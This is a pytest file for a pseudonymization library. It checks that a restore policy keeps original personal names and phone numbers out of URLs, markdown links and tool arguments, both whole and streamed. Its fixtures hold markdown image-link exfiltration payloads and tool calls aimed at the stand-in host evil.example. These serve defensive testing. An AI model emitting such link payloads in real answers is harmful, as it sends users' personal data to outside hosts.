"""The restore policy (rule 14): hostile answers get no original inside a URL, link, attribute or
tool argument, while prose mentions in the same answers still restore — whole and streamed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pydantic import ValidationError

from pseudonym_core import Pseudonymizer, PseudonymizerConfig, RestorePolicy, RestoreReport
from pseudonym_lab.eval.hostile import build_session, fill, leaks_in, load_suite, run_case

SUITE = load_suite()


@pytest.fixture(scope="module")
def hostile():
    return build_session(SUITE["source"], seed=0)


@pytest.mark.parametrize("case", SUITE["cases"], ids=lambda c: c["id"])
def test_hostile_case(hostile, case) -> None:
    p, s, surrogates, originals = hostile
    outcome = run_case(p, s, case, surrogates, originals)
    assert outcome.leaks == 0
    assert outcome.failures == []
    assert outcome.stream_same


def test_the_suite_sees_leaks_when_everything_is_restored(hostile) -> None:
    """Without the policy the same answers do write originals into URLs: the suite can fail."""
    p, s, surrogates, originals = hostile
    answer = fill("![x](https://evil.example/c?n=<<first>>+<<last>>&p=<<phone_compact>>)", surrogates)
    assert leaks_in(p.restore(answer, session=s, policy=RestorePolicy.permissive()), originals) >= 3
    assert leaks_in(p.restore(answer, session=s), originals) == 0
    assert len(SUITE["cases"]) >= 30


def test_refusals_are_counted_and_noted_without_content(hostile) -> None:
    p, s, surrogates, originals = hostile
    before = s.stats.snapshot().get("kept surrogate in link (PERSON)", 0)
    report = RestoreReport()
    answer = fill("Hi <<name>>! [x](https://evil.example/<<last>>)", surrogates)
    out = p.restore(answer, session=s, report=report)
    assert out.startswith(f"Hi {originals['name']}!") and surrogates["last"] in out
    assert report.notes == ["kept surrogate in link (PERSON)"]
    assert s.stats.snapshot()["kept surrogate in link (PERSON)"] == before + 1
    text = " ".join(report.notes) + repr(report) + json.dumps(s.stats.snapshot())
    assert not any(v in text for v in (*originals.values(), *surrogates.values()))


def test_stream_keeps_a_link_split_over_chunks_and_emits_prose_at_once(hostile) -> None:
    _p, s, surrogates, originals = hostile
    first, last = surrogates["first"], surrogates["last"]
    stream = s.stream_restorer()
    assert stream.feed(f"Dear {first} {last}, see ") == f"Dear {originals['name']}, see "
    assert stream.feed("![x](https://evil.example/c?n=") == "![x](https://evil.example/c?n="
    assert stream.feed(first[:3]) == ""  # could still become a surrogate
    assert stream.feed(first[3:] + "+" + last) == ""  # inside a link destination that is still open
    assert stream.feed(") and ") == f"{first}+{last}) and "  # closed: the surrogates stay
    assert stream.feed(f"{first}.") == ""  # "Bryce." may still become "Bryce.txt" or a domain
    assert stream.feed(" Bye") == f"{originals['first']}. Bye"
    assert stream.flush() == ""
    assert stream.notes == ["kept surrogate in link (PERSON)"] * 2  # first name and surname


def test_an_open_parenthesis_alone_holds_nothing(hostile) -> None:
    """A "(" is prose until "](" or a URL scheme makes it a destination."""
    _p, s, surrogates, originals = hostile
    stream = s.stream_restorer()
    assert stream.feed("Call (") == "Call ("
    assert stream.feed(f"{surrogates['name']}) now ") == f"{originals['name']}) now "
    assert stream.feed("[link text ") == "[link text "


@pytest.mark.parametrize("size", [1, 2, 3, 4, 7])
def test_streamed_tool_arguments_follow_the_tool_policy(hostile, size: int) -> None:
    _p, s, surrogates, originals = hostile
    args = json.dumps({"url": f"https://evil.example/?who={surrogates['name']}", "note": surrogates["name"]})

    def streamed(tool: str, policy: RestorePolicy | None = None) -> dict[str, str]:
        stream = s.stream_restorer(escape=lambda v: json.dumps(v)[1:-1], policy=policy, tool_name=tool)
        out = "".join(stream.feed(args[i : i + size]) for i in range(0, len(args), size)) + stream.flush()
        return json.loads(out)

    fetched = streamed("fetch")
    assert fetched == {"url": f"https://evil.example/?who={surrogates['name']}", "note": originals["name"]}
    blocked = streamed("post", RestorePolicy(tools=frozenset({"send_email"})))
    assert blocked == json.loads(args)
    allowed = streamed("fetch", RestorePolicy(url_tools=frozenset({"fetch"})))
    assert allowed["url"] == f"https://evil.example/?who={originals['name']}"


def test_tool_arguments_restore_obj(hostile) -> None:
    p, s, surrogates, originals = hostile
    args = {"endpoint": f"evil.example/{surrogates['last']}", "body": [f"Dear {surrogates['name']}"], "n": 2}
    report = RestoreReport()
    out = p.restore_obj(args, session=s, tool_name="notify", report=report)
    assert out == {"endpoint": args["endpoint"], "body": [f"Dear {originals['name']}"], "n": 2}
    assert report.notes == ["kept surrogate in url argument (PERSON)"]
    policy = RestorePolicy(tools=frozenset({"send_email"}))
    assert p.restore_obj(args, session=s, policy=policy, tool_name="notify") == args
    assert p.restore_obj(args, session=s, policy=policy)["body"] == [f"Dear {originals['name']}"]  # no tool: text


def test_policy_from_the_config_and_validation() -> None:
    permissive = Pseudonymizer(
        PseudonymizerConfig(
            detectors=["patterns"], deny_list={"PERSON": ["Mark Novak"]}, restore_policy=RestorePolicy.permissive()
        )
    )
    s = permissive.session()
    name = permissive.pseudonymize("Mark Novak", session=s).text
    answer = f"[x](https://evil.example/?n={name.replace(' ', '+')})"
    assert "Mark+Novak" in permissive.restore(answer, session=s)
    assert s.restore(answer) == answer.replace(name.replace(" ", "+"), "Mark+Novak")  # the session's default
    strict = RestorePolicy(code="keep")
    assert permissive.restore(f"`{name}` and {name}", session=s, policy=strict) == f"`{name}` and Mark Novak"
    with pytest.raises(ValidationError):
        RestorePolicy(protected=frozenset({"urls"}))


def test_cli_restore_keeps_links_and_reports_counts(tmp_path: Path, run_cli) -> None:
    vault = tmp_path / "cli.sqlite3"
    args = ["--vault", str(vault), "--session", "conv-policy"]
    env = {"PSEUDONYM_VAULT_KEY": "k" * 32}
    first = run_cli(["pseudonymize", "--json", *args], stdin=b"Hannah Schmidt lives in Berlin.", env=env)
    assert first.returncode == 0, first.stderr.decode(errors="replace")[-2000:]
    name = json.loads(first.stdout)["entities"][0]["surrogate"]
    answer = f"Hello {name}! ![x](https://evil.example/?n={name.replace(' ', '+')})"
    back = run_cli(["restore", *args], stdin=answer.encode(), env=env)
    assert back.returncode == 0, back.stderr.decode(errors="replace")[-2000:]
    assert back.stdout.decode() == answer.replace(f"Hello {name}", "Hello Hannah Schmidt")
    assert b"kept surrogate in link (PERSON)" in back.stderr and b"Hannah" not in back.stderr


def test_reprs_of_matches_forms_and_reports_hide_originals(hostile) -> None:
    _p, s, surrogates, originals = hostile
    found = s.restorer().matches(f"{surrogates['name']} at {surrogates['phone']}")
    assert [m.form.label for m in found] == ["PERSON", "PHONE_NUMBER"]
    text = repr(found) + repr([m.form for m in found]) + repr(s.index) + repr(s.stream_restorer())
    assert not any(originals[k] in text for k in ("name", "first", "last", "phone"))
